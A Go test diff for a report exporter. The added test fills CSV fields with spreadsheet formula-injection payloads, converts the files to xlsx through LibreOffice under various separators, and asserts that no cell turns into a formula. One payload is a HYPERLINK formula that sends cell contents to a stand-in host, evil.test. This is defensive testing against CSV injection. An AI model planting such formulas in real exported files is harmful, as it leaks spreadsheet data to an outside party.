@@ -13,6 +13,7 @@ import (
 	"time"
 
 	"github.com/stretchr/testify/require"
+	"github.com/xuri/excelize/v2"
 
 	"wiretrace/report"
 	"wiretrace/report/page"
@@ -22,6 +23,12 @@ import (
 // NAME-SHEET.csv for each sheet. Texts are read as Excel reads them: what looks
 // like a number or a date becomes one.
 func convert(t *testing.T, out string, filter string, files ...string) {
+	t.Helper()
+	convertTo(t, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", out, filter, files...)
+}
+
+// convertTo does the same in another form.
+func convertTo(t *testing.T, form, out, filter string, files ...string) {
 	t.Helper()
 	office, err := exec.LookPath("soffice")
 	if err != nil {
@@ -33,7 +40,7 @@ func convert(t *testing.T, out string, filter string, files ...string) {
 	if filter != "" {
 		args = append(args, "--infilter="+filter)
 	}
-	args = append(args, "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir", out)
+	args = append(args, "--convert-to", form, "--outdir", out)
 	said, err := exec.CommandContext(ctx, office, append(args, files...)...).CombinedOutput()
 	require.NoError(t, err, string(said))
 }
@@ -157,5 +164,63 @@ func TestLibreOfficeReadsTheTablesAsTheyAre(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+// Whatever parts the cells when LibreOffice opens a table, no cell is a formula, though
+// it is told to evaluate them; nor if quotation marks are not heeded and something
+// else than the comma parts them.
+func TestLibreOfficeFindsNoFormulaWhateverPartsTheCells(t *testing.T) {
+	const evil = `=HYPERLINK("http://evil.test/?"&A1;"x")`
+	var texts []string
+	for _, between := range []string{"", ";", "; ", ";\"", "\t", "|", "\n", "\r\n", "\r", ",", ",\"", "a;b\t", "\"", "\" ;", "''", "' "} {
+		for _, formula := range []string{evil, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1"} {
+			texts = append(texts, between+formula, "Harbour"+between+formula)
+		}
+	}
+	dir := filepath.Join(t.TempDir(), "r")
+	w, err := report.Create(dir, report.Options{AllPassages: true})
+	require.NoError(t, err)
+	for i, text := range texts {
+		require.NoError(t, w.Article(&report.Article{
+			ID: fmt.Sprint(i), Title: text, Outlet: text, File: text, Text: text,
+			Passages: []report.Passage{{End: len(text), Label: report.Original, Text: text}}, Credits: []report.Credit{{Outlet: text, Text: text}},
+		}))
+	}
+	require.NoError(t, w.Problem(&report.Problem{File: evil, Reason: "a;" + evil}))
+	require.NoError(t, w.Commit())
+	names := []string{"report", "passages", "credits", "problems"}
+	var files []string
+	for _, name := range names {
+		files = append(files, filepath.Join(dir, name+".csv"))
+	}
+	for _, parts := range []string{"44,34", "59,34", "9,34", "124,34", "44/59/9,34", "59,", "9,", "124,"} { // separators and quotation mark
+		t.Run(parts, func(t *testing.T) {
+			out := t.TempDir()
+			convertTo(t, "xlsx", out, "CSV:"+parts+",76,1,,0,false,true,false,false,false,0,true", files...)
+			for _, name := range names {
+				requireNoFormula(t, filepath.Join(out, name+".xlsx"))
+			}
+		})
+	}
+}
+
+// requireNoFormula fails if a cell of a workbook is a formula.
+func requireNoFormula(t *testing.T, path string) {
+	t.Helper()
+	f := open(t, path)
+	for _, sheet := range f.GetSheetList() {
+		rows, err := f.GetRows(sheet)
+		require.NoError(t, err)
+		require.NotEmpty(t, rows)
+		for r, row := range rows {
+			for c := range row {
+				cell, err := excelize.CoordinatesToCellName(c+1, r+1)
+				require.NoError(t, err)
+				formula, err := f.GetCellFormula(sheet, cell)
+				require.NoError(t, err)
+				require.Empty(t, formula, "%s %s: %q", path, cell, row[c])
+			}
+		}
 	}
 }
